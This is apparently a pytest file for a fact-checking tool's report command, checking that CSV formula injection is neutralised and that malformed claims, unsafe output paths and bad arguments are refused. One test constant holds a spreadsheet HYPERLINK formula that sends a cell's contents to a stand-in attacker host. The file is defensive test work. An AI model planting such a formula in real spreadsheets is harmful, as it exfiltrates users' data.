"""Hostile report input and arguments (issue 14): formulas in column names, reports that
would overwrite their claims, `-k` values the search refuses."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from factcheck.errors import BadInputError
from factcheck.report.run import run_report
from factcheck.settings import Settings
from factcheck.verdict.result import SearchResult
from tests.helpers import run_main

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'


class UnsupportedSearcher:
    """Finds every claim `unsupported`."""

    settings = Settings(model="hash-test")

    def search_many(self, claims, k=5):
        return [SearchResult.from_dict(
            {"claim": c, "claimed_speaker": s, "verdict": "unsupported", "partial": False,
             "confidence": 0.0, "attribution": None, "earliest": None, "appearances": [],
             "matches": [], "provenance": {"model": "hash-test", "index_version": "v",
                                           "checked_at": "2025-01-01T00:00:00+00:00"}})
            for c, s in claims]


# --- defect 9: a formula as a column name ------------------------------------------------------


def test_extra_column_names_are_neutralised_in_the_csv_header(tmp_path: Path):
    claims = tmp_path / "claims.csv"
    with claims.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([["claim", FORMULA, "+cmd", "desk"], ["A claim", "=1+1", "x", "y"]])
    out = tmp_path / "out.csv"
    run_report(claims, out, UnsupportedSearcher())
    with out.open(encoding="utf-8", newline="") as f:
        header, row = list(csv.reader(f))
    assert header[-3:] == ["'" + FORMULA, "'+cmd", "desk"]
    assert row[-3:] == ["'=1+1", "x", "y"]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in header + row)


def test_extra_json_field_names_are_neutralised_in_the_csv_header(tmp_path: Path):
    claims = tmp_path / "claims.jsonl"
    claims.write_text('{"claim": "A claim", "@SUM(1)": "v"}\n', encoding="utf-8")
    out = tmp_path / "out.csv"
    run_report(claims, out, UnsupportedSearcher())
    with out.open(encoding="utf-8", newline="") as f:
        header, row = list(csv.reader(f))
    assert (header[-1], row[-1]) == ("'@SUM(1)", "v")


# --- defect 11: a claim that is not text --------------------------------------------------------


def test_a_claim_speaker_or_id_that_is_not_text_is_a_bad_row(tmp_path: Path):
    from factcheck.report.input import BadRow, read_claims

    lines = ['{"claim": ["a", "b"]}', '{"claim": 12}', '{"claim": true}', '{"claim": {"a": 1}}',
             '{"claim": "Fine", "speaker": {"name": "x"}}', '{"claim": "Fine", "id": [1]}',
             '{"claim": "Fine", "id": 7, "speaker": "Ann"}']
    claims = tmp_path / "claims.jsonl"
    claims.write_text("\n".join(lines) + "\n", encoding="utf-8")
    rows = list(read_claims(claims))
    assert [(r.row, r.reason) for r in rows if isinstance(r, BadRow)] == [
        (1, "field 'claim' is a list, not text"), (2, "field 'claim' is a number, not text"),
        (3, "field 'claim' is true or false, not text"),
        (4, "field 'claim' is an object, not text"),
        (5, "field 'speaker' is an object, not text"), (6, "field 'id' is a list, not text")]
    assert (rows[-1].id, rows[-1].claim, rows[-1].speaker) == ("7", "Fine", "Ann")


# --- defect 13: report arguments ----------------------------------------------------------------


def test_a_report_never_overwrites_its_claims_file(tmp_path: Path, claims_csv: Path, capsys):
    index = str(tmp_path / "index")
    (tmp_path / "link.csv").symlink_to(claims_csv)
    for out in (claims_csv, tmp_path / "." / "claims.csv", tmp_path / "link.csv"):
        status, line = run_main(capsys, "report", str(claims_csv), "--out", str(out),
                                "--index", index)
        assert status == 2
        assert line == (f"factcheck: {out}: is the claims file itself; give --out another "
                        "name")
    assert claims_csv.read_text(encoding="utf-8") == "claim\nThe budget will rise\n"


def test_run_report_refuses_to_write_over_its_claims(tmp_path: Path, claims_csv: Path):
    with pytest.raises(BadInputError, match="is the claims file itself"):
        run_report(claims_csv, claims_csv, UnsupportedSearcher())


@pytest.mark.parametrize("k", ["0", "-3"])
@pytest.mark.parametrize("command", ["search", "report"])
def test_k_below_one_is_refused_by_search_and_report_alike(tmp_path: Path, claims_csv: Path,
                                                           capsys, command: str, k: str):
    first = "The budget will rise" if command == "search" else str(claims_csv)
    out = ["--out", str(tmp_path / "out.json")] if command == "report" else []
    status, line = run_main(capsys, command, first, *out, "-k", k, "--index",
                            str(tmp_path / "index"))
    assert status == 2 and line == f"factcheck: -k must be a whole number of at least 1 (got {k})"
    assert not (tmp_path / "out.json").exists()


# --- defect 15: a quote that never closes in a claims file ---------------------------------------


def test_a_claims_row_whose_quote_never_closes_is_a_bad_row(tmp_path: Path):
    claims = tmp_path / "claims.csv"
    rows = "".join(f"Claim number {n},Ann\n" for n in range(1000))
    claims.write_text(f'claim,speaker\nFirst claim,Bob\n"An open quote,Ann\n{rows}',
                      encoding="utf-8")
    summary = run_report(claims, tmp_path / "out.json", UnsupportedSearcher())
    assert summary.claims == 1
    assert [(b.row, b.reason) for b in summary.bad_rows] == [
        (2, 'a quote (") in this row (from line 3) is never closed, so the 1,000 lines after it '
            'were read as one field; close the quote (or double it: "")')]


def test_a_claims_header_whose_quote_never_closes_is_refused(tmp_path: Path):
    claims = tmp_path / "claims.csv"
    claims.write_text('claim,"notes\n' + "".join(f"Claim {n},x\n" for n in range(1000)),
                      encoding="utf-8")
    with pytest.raises(BadInputError, match=r'claims\.csv: the header row: a quote \("\) in '
                                            r"this row \(from line 1\) is never closed"):
        run_report(claims, tmp_path / "out.json", UnsupportedSearcher())
